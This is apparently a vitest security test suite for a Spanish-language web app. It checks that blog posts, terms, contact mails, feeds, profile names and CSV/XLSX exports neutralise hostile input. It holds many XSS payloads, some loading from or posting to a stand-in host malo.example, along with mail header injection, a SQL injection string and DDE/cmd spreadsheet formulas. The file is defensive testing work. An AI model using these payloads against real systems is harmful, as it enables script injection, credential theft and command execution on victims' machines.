import { inflateRawSync } from 'node:zlib';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeFeed, writeSitemap } from '#app/site/feeds.ts';
import { credits, users } from '#platform/db/schema.ts';
import { createCredit, createUser, pngFile } from '#testing/factories.ts';
import { countTry, reportTries } from './attack-tally.ts';
import { type AttackWorld, createReviewer, openAttackWorld, type Reviewer } from './attack-world.ts';
import { findFault } from './judge-response.ts';

let world: AttackWorld;
let admin: Reviewer;
let image: string;
beforeAll(async () => {
  world = await openAttackWorld();
  admin = await createReviewer(world.app);
  image = `data:image/png;base64,${(await pngFile()).toString('base64')}`;
});
afterAll(async () => {
  await world.close();
  reportTries();
});

const id = '019303e6-0000-7000-8000-000000000001';
const hostileHtml = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//malo.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/x" onerror="alert(1)">',
  `<img src="/media/${id}" srcset="https://malo.example/a 1x" onload=alert(1)>`,
  `<img src="/media/${id}"/onerror="alert(1)"/x="`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="vbscript:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="//malo.example" target="_blank" rel="opener">a</a>',
  '<base href="https://malo.example/">',
  '<meta http-equiv="refresh" content="0;url=https://malo.example">',
  '<link rel="stylesheet" href="https://malo.example/a.css">',
  '<style>@import "https://malo.example/a.css";</style>',
  '<p style="background:url(https://malo.example/a.png)">a</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">a</p>',
  '<p class="site-modal" id="root">a</p>',
  '<form action="https://malo.example"><input name="password"><button formaction="javascript:alert(1)">a</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<div onpointerenter="alert(1)">a</div>',
  '<template><script>alert(1)</script></template>',
  '<slot name="a" onslotchange=alert(1)></slot>',
  '<custom-element onclick=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<table background="javascript:alert(1)"><tr><td colspan="99999999">a</td></tr></table>',
  '<a name="__proto__" id="constructor">a</a>',
  '<p>\u0000<scr\u0000ipt>alert(1)</script></p>',
  '＜script＞alert(1)＜/script＞',
  `${'<b>'.repeat(3_000)}a`,
  `<p title="${'a'.repeat(50_000)}">a</p>`,
];

/** Markup that runs, loads from elsewhere, navigates or covers the page. */
const active =
  /<\s*(?:script|svg|math|iframe|object|embed|base|meta|link|style|form|input|button|textarea|template|video|audio|source|details|body|slot|custom)|<[^>]*\son\w+\s*=|<[^>]*(?:href|src|action)\s*=\s*["']?\s*(?:javascript|vbscript|data:(?!image\/(?:png|jpe?g|gif|webp))|\/\/)|<[^>]*\s(?:style|class|id|srcset|background|srcdoc|name)\s*=/i;

const write = (method: string, path: string, body: object) =>
  world.send({ method, path: `/api/admin/${path}`, token: admin.token, body });

describe('HTML of posts and terms', () => {
  it.each(hostileHtml.map((html) => [html.slice(0, 70), html] as const))('%s', async (_shown, html) => {
    const post = await write('POST', 'blogs', {
      title: 'Nota',
      slug: `nota-${Math.random().toString(36).slice(2)}`,
      content: `<p>Hola</p>${html}`,
      image,
    });
    countTry('stored HTML and SVG', post);
    expect(findFault(post)).toBeNull();
    const terms = await write('POST', 'terms', {
      version: Math.random().toString(36).slice(2, 10),
      title: 'Términos',
      content: `<p>Hola</p>${html}`,
      isActive: true,
    });
    countTry('stored HTML and SVG', terms);
    expect(findFault(terms)).toBeNull();
    const responses = [];
    if (post.status < 300) {
      const { slug } = post.body.data as { slug: string };
      responses.push((await world.send({ path: `/api/public/blogs/slug/${slug}` })).body.data as { content: string });
    }
    if (terms.status < 300) responses.push((await world.send({ path: '/api/terms' })).body.data as { content: string });
    expect(responses.length).toBeGreaterThan(0);
    for (const { content } of responses) {
      expect(content).toContain('<p>Hola</p>');
      expect(content).not.toMatch(active);
    }
  });
});

describe('text of people', () => {
  const texts = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '</title><svg onload=alert(1)>',
    '{{constructor}}',
  ];

  it('is written into mails as text, and breaks no header of theirs', async () => {
    const body = { nombres: 'Ana', email: 'ana@ejemplo.ec', mensaje: 'Hola' };
    for (const text of [...texts, 'Ana\r\nBcc: otra@ejemplo.ec', 'Ana\nBcc: otra@ejemplo.ec', 'Ana\u202Eola']) {
      for (const key of ['nombres', 'mensaje']) {
        const response = await world.send({ method: 'POST', path: '/api/contact', body: { ...body, [key]: text } });
        countTry('text in mails', response);
        expect(findFault(response)).toBeNull();
      }
    }
    for (const email of [
      'a@ejemplo.ec\r\nBcc: b@ejemplo.ec',
      'a@ejemplo.ec, b@ejemplo.ec',
      '"<script>"@ejemplo.ec',
      'a b@ejemplo.ec',
    ]) {
      const response = await world.send({ method: 'POST', path: '/api/contact', body: { ...body, email } });
      countTry('text in mails', response);
      expect(response.status).toBe(400);
    }
    const mails = await world.app.mailsTo('contacto@cotejo.example');
    expect(mails.length).toBeGreaterThan(4);
    for (const { html, subject } of mails) {
      expect(html).not.toMatch(/<script|<img src=x|<svg/i);
      expect(subject).not.toMatch(/[\r\n]|\u202e/);
    }
  });

  it('is no script in feeds', async () => {
    for (const title of [...texts, ']]><script>alert(1)</script>', '&lt;script&gt;']) {
      const response = await write('POST', 'blogs', {
        title,
        slug: `texto-${Math.random().toString(36).slice(2)}`,
        content: '<p>a</p>',
        image,
      });
      countTry('stored HTML and SVG', response);
      expect([title, findFault(response)]).toEqual([title, null]);
    }
    const { snapshot } = world.app.parts.catalog;
    for (const feed of [writeFeed(snapshot, 'http://localhost'), writeSitemap(snapshot, 'http://localhost')]) {
      expect(feed).not.toMatch(/<script|<img|<svg/i);
    }
  });

  it('is refused as a name', async () => {
    const { user, token } = await createUser(world.app);
    const profile = { nombres: 'Ana', apellidos: 'Prueba', telefono: '0990000009', direccion: 'Calle Segunda' };
    for (const text of [
      ...texts,
      '=1+1',
      'Ana\u0000',
      'A\r\nna',
      'Ana\u202E',
      '../../a',
      "Ana'; DROP TABLE users; --",
    ]) {
      for (const key of ['nombres', 'apellidos']) {
        const response = await world.send({
          method: 'PUT',
          path: '/api/users/profile',
          token,
          body: { ...profile, [key]: text },
        });
        countTry('names', response);
        expect([response.status, response.body.fields]).toEqual([400, { [key]: expect.any(String) }]);
      }
    }
    const [row] = await world.app.parts.db.select().from(users).where(eq(users.id, user.id));
    expect(row).toEqual(user);
  });
});

describe('formulas', () => {
  const formulas = [
    '=1+1',
    "=cmd|' /C calc'!A1",
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\uFEFF=1+1',
    '\u200b=1+1',
    '＝1+1',
    '=HYPERLINK("https://malo.example","a")',
    '",=1+1,"',
    'Quito\n=1+1',
    '%0A=1+1',
    '=DDE("cmd";"/C calc";"a")',
    "'=1+1",
  ];

  it('in a place, a name or an institution stay text in both exports', async () => {
    for (const formula of formulas) {
      const { user } = await createUser(world.app, {
        nombres: formula,
        apellidos: formula,
        telefono: formula.slice(0, 10),
      });
      await createCredit(world.app, { userId: user.id, location: formula });
      countTry('spreadsheet formulas', { status: 200 });
    }
    const download = (format: string) =>
      world.send({ path: `/api/admin/credits/export?format=${format}`, token: admin.token });
    const csv = (await download('csv')).text.replace(/^\uFEFF/, '');
    const starts = cellsOf(csv).filter((cell) => /^[\s\u00a0\u200b\uFEFF]*[=+\-@＝]/.test(cell));
    expect(starts).toEqual([]);

    const sheet = sheetOf((await download('xlsx')).bytes);
    expect(sheet).toContain('1+1');
    expect(sheet).not.toMatch(/<f[ >]/);
    expect((await world.app.parts.db.select({ id: credits.id }).from(credits)).length).toBe(formulas.length);
  });

  /** RFC 4180 with semicolons. */
  const cellsOf = (csv: string): string[] =>
    [...csv.matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^";\r\n]*))/g)].map(([, quoted, bare]) =>
      quoted === undefined ? (bare ?? '') : quoted.replaceAll('""', '"'),
    );

  function sheetOf(zip: Buffer): string {
    const texts: string[] = [];
    for (let at = zip.indexOf('PK\x01\x02'); at !== -1; at = zip.indexOf('PK\x01\x02', at + 4)) {
      const name = zip.subarray(at + 46, at + 46 + zip.readUInt16LE(at + 28)).toString();
      if (!/sheet|sharedStrings/i.test(name)) continue;
      const from = zip.readUInt32LE(at + 42);
      const data = from + 30 + zip.readUInt16LE(from + 26) + zip.readUInt16LE(from + 28);
      const bytes = zip.subarray(data, data + zip.readUInt32LE(at + 20));
      texts.push((zip.readUInt16LE(at + 10) === 8 ? inflateRawSync(bytes) : bytes).toString());
    }
    return texts.join('\n');
  }
});
